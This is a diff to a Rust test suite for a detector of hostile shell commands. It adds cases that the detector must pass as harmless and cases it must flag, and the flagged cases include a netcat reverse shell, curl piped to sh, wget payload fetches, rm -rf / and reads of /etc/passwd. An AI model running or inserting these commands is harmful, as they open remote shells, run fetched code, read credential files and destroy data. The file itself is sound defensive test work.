@@ -735,8 +735,6 @@ fn sentences_headings_and_sentence_ends() {
 #[test]
 fn whole_command_lines() {
     for v in [
-        "ls",
-        "pwd",
         "cat config.php",
         "cat .env",
         "type file.txt",
@@ -2528,7 +2526,6 @@ fn commands_quoted_in_prose() {
         assert!(!hit(v), "{v}");
     }
     for v in [
-        "ls -la",
         "cat /etc/passwd",
         "nc -e /bin/sh 10.0.0.1 4444",
         "ping -c 10 localhost",
@@ -3102,5 +3099,83 @@ fn vi_shell_ex_command_alone() {
         ":term",
     ] {
         assert!(!hit(v), "{v:?}");
+    }
+}
+
+#[test]
+fn harmless_whole_developer_commands() {
+    // Run whole, these read no system file, open no shell or connection and delete nothing.
+    for v in [
+        "docker run -it ubuntu",
+        "docker run -p 8080:80 nginx",
+        "kubectl get pods -n default",
+        "ssh-keygen -t ed25519",
+        "python3 script.py --verbose",
+        "pip install -r requirements.txt",
+        "java -jar app.jar",
+        "tar -xzf file.tar.gz",
+        "grep -r foo .",
+        "grep -r \"foo\" .",
+        "ping google.com",
+        "ls -la",
+        "echo $HOME",
+        "echo $SHELL",
+        "ls",
+        "pwd",
+        "id",
+    ] {
+        assert!(!hit(v), "{v:?}");
+    }
+    for v in [
+        "cat /etc/passwd",
+        "rm -rf /",
+        "rm -rf node_modules",
+        "ping -c 10 127.0.0.1",
+        "ping -c 5 attacker.com",
+        "nc -e /bin/sh 1.2.3.4 4444",
+        "curl http://x/s.sh | sh",
+        "wget http://x/a -O /tmp/a",
+        "echo $(id)",
+        "echo `id`",
+        "echo ${PATH:0:1}",
+        "tar --checkpoint-action=exec=sh",
+        "python3 -c 'import os'",
+        "perl -e 'system(1)'",
+        "docker exec -it web sh",
+        "grep -r foo ../../etc",
+        "whoami",
+        "uname -a",
+        "ifconfig",
+        "systeminfo",
+        "id;",
+        "net user",
+        "ls -la /",
+        "find . -exec sh {} +",
+        "c99 -wrapper sh,-c,curl google.com .",
+        "ansible-pull --url example.com",
+        "ping 127",
+    ] {
+        assert!(hit(v), "{v:?}");
+    }
+}
+
+#[test]
+fn sentence_after_command_name() {
+    for v in [
+        "Timeout after 30s on /api/v1/orders?status=pending",
+        "Sort /home/user/docs by date",
+        "ssh-keygen saves to ~/.ssh/id_rsa by default",
+    ] {
+        assert!(!hit(v), "{v:?}");
+    }
+    for v in [
+        "timeout /t 30",
+        "Sort /R c:\\x.txt",
+        "More /etc/passwd",
+        "Type C:\\secret.txt",
+        "cat /etc/passwd",
+        "ssh-keygen -f ~/.ssh/id_rsa",
+    ] {
+        assert!(hit(v), "{v:?}");
     }
 }
